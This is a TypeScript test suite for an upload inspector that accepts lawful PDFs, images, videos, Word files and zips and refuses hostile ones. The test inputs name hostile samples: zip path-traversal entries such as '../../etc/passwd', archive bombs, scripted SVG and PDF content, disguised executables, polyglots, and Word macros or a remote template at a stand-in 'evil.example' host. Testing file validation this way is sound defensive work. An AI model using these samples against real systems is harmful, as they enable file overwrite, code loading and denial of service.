/** What may enter a dossier: lawful files of every kind pass with their facts; the corpus of hostile ones is refused, each for its reason. */
import { mkdtempSync, rmSync } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { createCanvas } from '@napi-rs/canvas'
import { afterAll, describe, expect, test } from 'vitest'
import { fileKindCodes, type FileKind } from '#rules/file-kinds'
import { fileLimits } from '#rules/file-limits'
import type { FileProblem } from '#rules/file-problems'
import { inspectFile } from '#server/inspection/inspect-file'
import { box, docx, genuine, handler, zipOf } from '#tests/support/dossier'
import * as hostile from '#tests/support/hostile'

const folder = mkdtempSync(join(tmpdir(), 'bang-vang-inspection-'))
afterAll(() => rmSync(folder, { recursive: true }))

async function inspect(name: string, bytes: Uint8Array, allowed: readonly FileKind[] = fileKindCodes) {
  const path = join(folder, 'staged')
  await writeFile(path, bytes)
  return inspectFile(path, { name, size: bytes.length }, allowed)
}

const refusal = async (name: string, bytes: Uint8Array): Promise<FileProblem | 'passed'> => {
  const inspected = await inspect(name, bytes)
  return inspected.ok ? 'passed' : inspected.problem
}

/** A PNG whose header claims these pixels. */
function png(width: number, height: number): Buffer {
  const bytes = Buffer.from(genuine.png)
  bytes.writeUInt32BE(width, 16)
  bytes.writeUInt32BE(height, 20)
  return bytes
}

describe('a lawful file', () => {
  const turned = Buffer.concat([
    genuine.jpg.subarray(0, 2),
    Buffer.from('ffe100224578696600004949', 'hex'),
    Buffer.from('2a0008000000010012010300010000000600000000000000', 'hex'),
    genuine.jpg.subarray(2),
  ])
  test.each([
    ['a paper', 'máy tách ngô.PDF', genuine.pdf, { kind: 'pdf', pages: 1 }],
    ['a photograph', 'a.jpeg', genuine.jpg, { kind: 'jpg', size: { width: 64, height: 48 } }],
    ['a photograph taken upright', 'a.jpg', turned, { kind: 'jpg', size: { width: 48, height: 64 } }],
    ['a drawing', 'a.png', genuine.png, { kind: 'png', size: { width: 64, height: 48 } }],
    ['a film', 'a.mp4', genuine.mp4, { kind: 'mp4' }],
    ['a document of Word', 'a.docx', docx, { kind: 'docx' }],
    ['software', 'a.zip', hostile.archive({ 'main.py': 'print(1)', 'readme.txt': '' }), { kind: 'zip' }],
    ['a paper of as many pages as may be', 'a.pdf', hostile.endlessPdf(300), { kind: 'pdf', pages: 300 }],
    ['a paper that nests deeply and needs none of it', 'a.pdf', hostile.deepPdf(), { kind: 'pdf', pages: 1 }],
    [
      'a paper that writes about scripts',
      'a.pdf',
      hostile.pdfWith('/Title (dung /JavaScript)'),
      { kind: 'pdf', pages: 1 },
    ],
  ] as const)('passes: %s', async (_, name, bytes, facts) => {
    expect(await inspect(name, bytes)).toEqual({ ok: true, isUnscanned: false, ...facts })
  })
})

describe('a file that is not what it should be', () => {
  const allowed = fileKindCodes
  test.each([
    ['nothing', 'a.pdf', Buffer.alloc(0), { code: 'empty' }],
    [
      'a drawing of the web',
      'a.svg',
      Buffer.from('<svg onload="x()"/>'),
      { code: 'kind', found: 'svg', allowed },
    ],
    [
      'a drawing of the web called PNG',
      'a.png',
      Buffer.from('<?xml version="1.0"?><svg/>'),
      { code: 'kind', found: 'svg', allowed },
    ],
    [
      'a page called PDF',
      'a.pdf',
      Buffer.from('\n<!DOCTYPE html><script>'),
      { code: 'kind', found: 'html', allowed },
    ],
    ['a program called JPG', 'a.jpg', genuine.exe, { code: 'kind', found: 'exe', allowed }],
    ['a PDF called PNG', 'a.png', genuine.pdf, { code: 'kind', found: 'pdf', allowed }],
    ['an archive called Word', 'a.docx', zipOf('main.py'), { code: 'kind', found: 'zip', allowed }],
    ['a name without an ending', 'tep', genuine.pdf, { code: 'kind', found: null, allowed }],
    ['two endings', 'a.pdf.exe', genuine.pdf, { code: 'kind', found: 'exe', allowed }],
  ] as [string, string, Buffer, FileProblem][])('is refused by kind: %s', async (_, name, bytes, problem) => {
    expect(await refusal(name, bytes)).toEqual(problem)
  })

  test('is refused by the list of its part, whatever else may be lawful', async () => {
    expect(await inspect('a.pdf', genuine.pdf, ['jpg', 'png'])).toEqual({
      ok: false,
      problem: { code: 'kind', found: 'pdf', allowed: ['jpg', 'png'] },
    })
  })

  test('is refused when bytes are missing', async () => {
    const path = join(folder, 'short')
    await writeFile(path, genuine.pdf.subarray(0, -9))
    expect(await inspectFile(path, { name: 'a.pdf', size: genuine.pdf.length }, ['pdf'])).toEqual({
      ok: false,
      problem: { code: 'incomplete' },
    })
  })
})

describe('a PDF', () => {
  const { pages: max } = fileLimits
  const expected: Record<keyof typeof hostile.hostilePdf, FileProblem> = {
    locked: { code: 'pdf-locked' },
    script: { code: 'pdf-active', what: 'script' },
    'script under an escaped name': { code: 'pdf-active', what: 'script' },
    'script behind a lone bracket': { code: 'pdf-active', what: 'script' },
    'script in a false stream': { code: 'pdf-active', what: 'script' },
    'script on the line of a comment': { code: 'pdf-active', what: 'script' },
    'script in an object stream': { code: 'pdf-active', what: 'script' },
    launch: { code: 'pdf-active', what: 'launch' },
    attachment: { code: 'pdf-active', what: 'attachment' },
    form: { code: 'pdf-active', what: 'form' },
    'objects packed oddly': { code: 'pdf-active', what: 'hidden' },
    broken: { code: 'unreadable', kind: 'pdf' },
    'without pages': { code: 'unreadable', kind: 'pdf' },
  }
  test.each(Object.entries(hostile.hostilePdf))('is refused: %s', async (name, bytes) => {
    expect(await refusal('a.pdf', bytes)).toEqual(expected[name as keyof typeof expected])
  })

  test('of ten thousand pages, or of a tree that bites its tail, is refused', async () => {
    const pages = 10_000
    expect(await refusal('a.pdf', hostile.endlessPdf(pages))).toEqual({ code: 'too-many-pages', pages, max })
    expect(await refusal('a.pdf', hostile.circularPdf)).toEqual({ code: 'unreadable', kind: 'pdf' })
  })

  test.each(Object.entries(hostile.polyglots))('that is two files is refused: %s', async (_, bytes) => {
    expect(await refusal('a.pdf', bytes)).toEqual({ code: 'two-in-one', kind: 'pdf' })
  })
})

describe('an archive', () => {
  test.each([
    ['that expands without measure', hostile.bomb(), { code: 'archive-bomb' }],
    ['that lies about its size', hostile.lyingArchive(), { code: 'archive-bomb' }],
    ['whose entries share bytes', hostile.overlappingArchive(), { code: 'archive-bomb' }],
    ['with a password', hostile.lockedArchive(), { code: 'archive-locked' }],
    ['that climbs out of its folder', zipOf('../../etc/passwd'), { code: 'archive-path' }],
    ['that climbs out as Windows writes it', zipOf('..\\..\\autoexec.bat'), { code: 'archive-path' }],
    ['with a place of its own choice', zipOf('/etc/passwd'), { code: 'archive-path' }],
    ['with a drive', zipOf('C:/boot.ini'), { code: 'archive-path' }],
    ['with a link', hostile.linkingArchive(), { code: 'archive-link' }],
    ['that was damaged', hostile.damagedArchive(), { code: 'unreadable', kind: 'zip' }],
    [
      'of too many files',
      zipOf(...Array.from({ length: 20_001 }, (_, index) => `${index}`)),
      { code: 'too-many-entries', max: 20_000 },
    ],
  ] as [string, Buffer, FileProblem][])('%s is refused', async (_, bytes, problem) => {
    expect(await refusal('a.zip', bytes)).toEqual(problem)
  })
})

describe('a document of Word', () => {
  const word = (more: Record<string, string>, types = '') =>
    hostile.archive({
      '[Content_Types].xml': `<Types>${types}</Types>`,
      'word/document.xml': '<w:document/>',
      ...more,
    })
  const macroTypes = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
  const template = (target: string) => ({
    'word/_rels/settings.xml.rels': `<Relationship Type="attachedTemplate" Target="${target}" TargetMode="External"/>`,
  })
  test.each([
    ['macros', word({ 'word/vbaProject.bin': 'x' }), { code: 'word-macros' }],
    ['the kind that may hold macros', word({}, macroTypes), { code: 'word-macros' }],
    ['controls', word({ 'word/activeX/activeX1.xml': 'x' }), { code: 'word-macros' }],
    ['a template from the network', word(template('http://evil.example/a.dotm')), { code: 'word-remote' }],
    ['a template from a neighbour', word(template('\\\\10.0.0.7\\a.dotm')), { code: 'word-remote' }],
    ['a template of its own machine', word(template('file:///C:\\Users\\a\\Normal.dotm')), 'passed'],
  ] as [string, Buffer, FileProblem | 'passed'][])('with %s', async (_, bytes, problem) => {
    expect(await refusal('a.docx', bytes)).toEqual(problem)
  })
})

describe('a picture', () => {
  test.each([
    [
      'a.png',
      png(60_000, 60_000),
      { code: 'too-many-pixels', pixels: 3_600_000_000, max: fileLimits.pixels },
    ],
    ['a.png', genuine.png.subarray(0, 60), { code: 'unreadable', kind: 'png' }],
    ['a.jpg', genuine.jpg.subarray(0, 40), { code: 'unreadable', kind: 'jpg' }],
    ['a.jpg', Buffer.concat([genuine.jpg, zipOf('virus.exe')]), { code: 'two-in-one', kind: 'jpg' }],
  ] as [string, Buffer, FileProblem][])('%s is refused', async (name, bytes, problem) => {
    expect(await refusal(name, bytes)).toEqual(problem)
  })

  test('of thirty megapixels passes within the memory a process may take', async () => {
    const canvas = createCanvas(6000, 5000)
    canvas.getContext('2d').fillRect(0, 0, 3000, 2500)
    const inspected = await inspect('a.jpg', await canvas.encode('jpeg', 70))
    expect(inspected).toMatchObject({ ok: true, size: { width: 6000, height: 5000 } })
  })
})

describe('a film', () => {
  const ftyp = box('ftyp', Buffer.from('mp42\0\0\0\0mp42isom'))
  const track = (kind: string) => box('moov', box('trak', box('mdia', handler(kind))))
  const tooLong = Buffer.concat([ftyp, track('vide'), box('mdat', Buffer.alloc(64))])
  tooLong.writeUInt32BE(9_999_999, ftyp.length + track('vide').length)
  test.each([
    ['without its index', Buffer.concat([ftyp, box('mdat', Buffer.alloc(64))])],
    ['without a picture', Buffer.concat([ftyp, track('soun')])],
    ['cut off', tooLong],
    [
      'whose boxes are smaller than themselves',
      Buffer.concat([ftyp, track('vide'), Buffer.from('0000000366726565', 'hex')]),
    ],
  ])('%s is refused', async (_, bytes) => {
    expect(await refusal('a.mp4', bytes)).toEqual({ code: 'unreadable', kind: 'mp4' })
  })
})

test('the corpus packs its bombs small enough to be sent', () => {
  expect(hostile.bomb().length).toBeLessThan(1024 * 1024)
  expect(deflateSync(hostile.deepPdf()).length).toBeLessThan(10_000)
})
